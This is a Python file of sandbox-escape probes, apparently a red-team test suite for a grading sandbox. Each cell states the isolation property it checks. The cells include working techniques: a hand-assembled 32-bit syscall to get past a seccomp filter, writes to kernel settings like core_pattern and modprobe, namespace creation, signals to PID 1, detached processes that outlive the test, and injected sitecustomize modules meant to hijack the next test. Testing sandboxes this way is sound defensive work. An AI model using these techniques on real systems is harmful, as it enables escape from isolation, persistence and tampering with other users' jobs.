"""Reach beyond the test: other processes, other tests, the kernel, the network.

group: survive or spread
target: tensor_memory
tests: storage_bytes
status: failed
"""

import array
import contextlib
import ctypes
import fcntl
import mmap
import os
import platform
import resource
import signal
import socket
import sys
import tempfile
import threading
import time

import einops
import torch

TMP = tempfile.gettempdir()
ZYGOTE = os.getppid()
LIBC = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
got = []


def succeeds(act, *arguments):
    with contextlib.suppress(OSError):
        return act(*arguments) is not False
    return False

def possible(what, act, *arguments):
    """Note that something is possible that must not be."""
    if succeeds(act, *arguments):
        got.append(what)

def report():
    """End the test, whatever was possible."""
    raise LookupError(f"BREACH: {got[:9]}" if got else "nothing")


# %% calls_of_another_processor
"""Makes a system call by its 32-bit number, to get past a filter that knows only the 64-bit numbers.

status: crashed, failed
holds: the filter kills the process; on other processors there is no such call.
"""
if not X86:
    report()
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # mov eax, 20 (getpid); int 0x80; ret
pid = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
raise RuntimeError(f"BREACH: {pid}")


# %% limits_of_process_1
"""Lowers the limits and the priority of the process that every later test is forked from.

holds: it can change only its own limits.
"""
for n in range(16):
    with contextlib.suppress(ValueError):
        possible(f"limit {n}", resource.prlimit, ZYGOTE, n, (1, 1))
possible("priority", os.setpriority, os.PRIO_PROCESS, ZYGOTE, 19)
possible("priority of the user", os.setpriority, os.PRIO_USER, os.getuid(), 19)
possible("processors", os.sched_setaffinity, ZYGOTE, {min(os.sched_getaffinity(0))})
possible("scheduler", os.sched_setscheduler, ZYGOTE, os.SCHED_IDLE, os.sched_param(0))
possible("ioprio", lambda: LIBC.syscall(251 if X86 else 30, 1, ZYGOTE, 3 << 13) == 0)
for name, value in (("oom_score_adj", "1000"), ("comm", "x"), ("timerslack_ns", "1")):
    possible(name, lambda: open(f"/proc/{ZYGOTE}/{name}", "w").write(value))
report()


# %% messages_in_a_folder
"""Leaves a message for its next process in everything that can be set on the writable folder: mode, times, attributes, flags.

tests: view_shows | storage_bytes | views_once
holds: the folder of a process shows nothing of the process before.
"""
MARK, MODE = 1_000_000_007, 0o1745
GETFLAGS, SETFLAGS, NODUMP = 0x80086601, 0x40086602, 0x40
PLACES = [TMP, os.path.dirname(TMP)]
left = []

def flags(folder, command, value=0):
    number = array.array("l", [value])
    opened = os.open(folder, os.O_RDONLY)
    try:
        fcntl.ioctl(opened, command, number)
    finally:
        os.close(opened)
    return number[0]

def look(folder):
    state = os.stat(folder)
    if MARK in (int(state.st_mtime), int(state.st_atime)):
        got.append("a time")
    if state.st_mode & 0o7777 == MODE:
        got.append("a mode")
    with contextlib.suppress(OSError):
        got.extend(name for name in os.listxattr(folder) if "message" in name)
    with contextlib.suppress(OSError):
        got.extend(["a flag"] if flags(folder, GETFLAGS) & NODUMP else [])
    with contextlib.suppress(OSError):
        got.extend(name for name in os.listdir(folder) if "attack" in name)

def leave(folder):
    for act in (
        lambda: os.setxattr(folder, "user.message", b"x"),
        lambda: os.setxattr(folder, "system.posix_acl_access", b"\2\0\0\0"),
        lambda: flags(folder, SETFLAGS, NODUMP),
        lambda: os.mkdir(f"{folder}/attack"),
        lambda: os.chmod(folder, MODE),
        lambda: os.utime(folder, (MARK, MARK)),
    ):
        left.extend([folder] if succeeds(act) else [])

for place in PLACES:
    look(place)
for place in PLACES:
    leave(place)
raise LookupError(f"BREACH: {got}" if got else f"left {len(left)} messages")


# %% names_that_are_not_text
"""Gives its processes, threads and files names that are not UTF-8, or that look like fields of /proc, while the zygote looks at them.

holds: nothing outside reads a name as text, so the zygote of this box and those of others go on.
"""
PR_SET_NAME = 15
NAMES = [b"\xff\xfe", b"x\nUid:\t0\t0\t0", b") R 1 1 1", b"x\n1 kB\xff", b""]

def rename(name):
    LIBC.prctl(PR_SET_NAME, name, 0, 0, 0)

def in_a_thread():
    rename(b"\xff\xff")
    time.sleep(20)

def storage_bytes(x):
    for name in NAMES:
        folder = os.fsencode(TMP) + b"/" + name.replace(b"/", b"") + b"\xff"
        os.mkdir(folder)
        open(folder + b"/\n\xfe", "w").close()
        if os.fork() == 0:
            threading.Thread(target=in_a_thread).start()
            rename(name)
            time.sleep(20)
    rename(b"\xff\xfe")
    end = time.monotonic() + 0.3
    while time.monotonic() < end:
        pass
    raise LookupError("nothing")

tensor_bytes = unique_bytes = storage_bytes


# %% network
"""Opens a socket of every family that could leave the sandbox.

holds: there is no network of any kind.
"""
for family in {*range(1, 46)} - {socket.AF_UNIX}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        possible((family, kind), socket.socket, family, kind)
possible("localhost", socket.create_connection, ("127.0.0.1", 22), 1)
report()


# %% new_namespaces
"""Tries to create namespaces of its own, in which it would be root.

holds: every way to create a namespace is closed.
"""
def cloned(call, *arguments):
    """Whether there is a new process; it ends at once."""
    if (pid := LIBC.syscall(call, *arguments)) == 0:
        os._exit(0)
    return pid > 0

for flag in (1 << 28, 1 << 17, 1 << 29, 1 << 30, 1 << 27, 1 << 26, 1 << 25, 1 << 7):
    possible(f"unshare {flag:x}", lambda: LIBC.syscall(272 if X86 else 97, flag) == 0)
    if flag != 1 << 7:
        possible(f"clone {flag:x}", cloned, 56 if X86 else 220, flag | 17, 0, 0, 0, 0)
possible("clone3", cloned, 435, (ctypes.c_uint64 * 8)(1 << 28, 0, 0, 0, 17, 0, 0, 0), 64)
for name in ("user", "mnt", "pid", "net"):
    with contextlib.suppress(OSError):
        number = os.open(f"/proc/self/ns/{name}", os.O_RDONLY)
        possible("setns", lambda: LIBC.syscall(308 if X86 else 268, number, 0) == 0)
for path in ("uid_map", "setgroups"):
    possible(path, lambda: open(f"/proc/self/{path}", "w").write("0 0 1"))
report()


# %% settings_of_the_kernel
"""Writes to the files through which root configures the host's kernel.

holds: none of them can be opened for writing.
"""
PATHS = (
    "/proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/vm/drop_caches "
    f"/proc/sysrq-trigger /proc/sys/fs/binfmt_misc/register /proc/{ZYGOTE}/oom_score_adj "
    "/proc/1/loginuid /proc/1/attr/current /proc/kcore /sys/fs/cgroup/cgroup.procs "
    "/sys/kernel/uevent_helper /dev/kmsg /dev/mem /dev/sda /dev/kvm /dev/fuse"
)
for path in PATHS.split():
    possible(path, os.open, path, os.O_WRONLY)
report()


# %% signals_to_process_1
"""Sends every signal to the process that started it, and to every other process.

status: failed, crashed
holds: the sandbox still works afterwards.
"""
for number in sorted(signal.valid_signals()):
    succeeds(os.kill, 1, number)
    succeeds(os.kill, ZYGOTE, number)
    succeeds(lambda: signal.pidfd_send_signal(os.pidfd_open(ZYGOTE), number))


# %% sockets_of_a_pair
"""Creates a socket pair, which is allowed, and sends from one end to an outside address.

holds: one end of a pair reaches only the other end, or a network without any other host.
"""
name = "\0attack-escaped"
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    try:
        one, other = socket.socketpair(socket.AF_UNIX, kind)
    except OSError:
        continue
    for address in (name, "/run/systemd/notify", "/dev/log", "/var/run/docker.sock"):
        for attempt in (
            lambda: one.connect(address),
            lambda: one.sendto(b"x", address),
            lambda: one.sendmsg([b"x"], (), 0, address),
        ):
            try:
                attempt()
                got += [] if other.recv(1, socket.MSG_DONTWAIT) else [(kind, address)]
            except BlockingIOError:
                got.append((kind, address))
            except OSError:
                pass
    if succeeds(other.bind, name) and ZYGOTE != 1:
        got.append((kind, "a name"))
    one.close()
    other.close()
report()


# %% stops_itself
"""Stops its own process, which then neither runs nor exits.

limits: wall_seconds=1
status: timeout
holds: a stopped process is killed like any other.
"""
def storage_bytes(x):
    os.kill(os.getpid(), signal.SIGSTOP)


# %% traces_of_a_user
"""Looks for processes and files of its own user that an earlier submission may have left.

holds: before its first line runs, its user owns no other process, and no file but its sources.
"""
for pid in {*range(max(2, os.getpid() - 3000), os.getpid() + 3000)} - {os.getpid()}:
    possible(pid, os.kill, pid, 0)
for folder, folders, files in os.walk(TMP):
    folders[:] = [name for name in folders if name != "submission"]
    got += [os.path.join(folder, name) for name in files]
left = resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime
if got or left:
    raise RuntimeError(f"BREACH: {got} {left}")
for number in range(3):
    if os.fork() == 0:
        os.setsid()
        open(f"{TMP}/attack-escaped-{number}", "w").close()
        while True:
            pass
raise LookupError("nothing found")


# %% modules_left_in_tmp
"""Writes modules with other names beside its own for the next test to import, and changes the search path.

group: inject code
reference: before
tests: -
status: -
earns: full
holds: the next test starts with an empty folder and its own search path.
"""
names = "torch numpy json sitecustomize usercustomize assignment/linear tests/probes/linear"
for name in names.split():
    for folder in (TMP, f"{TMP}/submission"):
        os.makedirs(os.path.dirname(f"{folder}/{name}"), exist_ok=True)
        with open(f"{folder}/{name}.py", "w") as f:
            f.write("raise SystemExit('injected')")
sys.path[:] = [TMP, *sys.path]
os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = TMP


# %% write_to_what_is_shown
"""Tries to write to every file of the worker, the probes and the libraries, and to replace it.

group: inject code
holds: everything visible in the sandbox is read-only, whatever its permissions say.
"""
packages = (os.path.realpath(os.path.dirname(module.__file__)) for module in (torch, einops, os))
theirs = (path for path in sys.path if os.getcwd() not in path)
tops = ("/runtime", "/etc", "/usr/lib64", "/proc/sys/kernel", "/dev", *packages, *theirs)
for top in (*tops, os.path.dirname(sys.executable)):
    for folder, folders, files in os.walk(top):
        del folders[20:]
        for path in (os.path.join(folder, name) for name in files[:50]):
            succeeds(os.chmod, path, 0o777)
            if os.path.isfile(path):
                possible(path, open, path, "r+b")
        possible(folder, open, f"{folder}/attack-escaped", "w")
report()
